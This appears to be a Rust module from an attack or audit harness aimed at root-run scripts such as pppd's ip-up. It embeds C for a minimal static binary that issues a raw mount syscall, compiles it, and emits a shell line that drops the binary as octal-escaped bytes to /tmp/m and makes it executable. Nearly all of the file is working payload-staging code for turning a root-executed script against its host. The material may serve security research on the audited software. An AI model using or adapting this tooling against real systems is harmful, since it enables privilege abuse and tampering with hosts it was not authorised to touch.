//! Scripts that a server runs as root, and that turn against the host: pppd's ip-up of an audited tree, say.

use std::fs;
use std::process::Command;

/// `mount("none", argv[2], argv[1], 0, argv[3])`, as a program of some hundred octets without a library.
const MOUNT: &str = r#"
static long call(long n, long a, long b, long c, long d, long e) {
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
    return r;
}
__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call begin\n");
void begin(long *stack) {
    long r = call(165, (long)"none", stack[3], stack[2], 0, stack[4]);
    call(60, r ? 1 : 0, 0, 0, 0, 0);
}
"#;

/// Lines of shell that make `/tmp/m TYPE DIRECTORY OPTIONS`, which mounts.
pub(crate) fn mounter() -> String {
    let scratch = tempfile::tempdir().unwrap();
    let (source, program) = (scratch.path().join("mount.c"), scratch.path().join("mount"));
    fs::write(&source, MOUNT).unwrap();
    let flags = "-O1 -nostdlib -static -fno-pie -no-pie -fno-stack-protector -s -Wl,-n -Wl,--build-id=none -o";
    let made = Command::new("cc").args(flags.split(' ')).arg(&program).arg(&source).status().unwrap();
    assert!(made.success());
    let octets: String = fs::read(&program).unwrap().iter().map(|octet| format!("\\{octet:03o}")).collect();
    format!("printf '{octets}' > /tmp/m; chmod 755 /tmp/m\n")
}
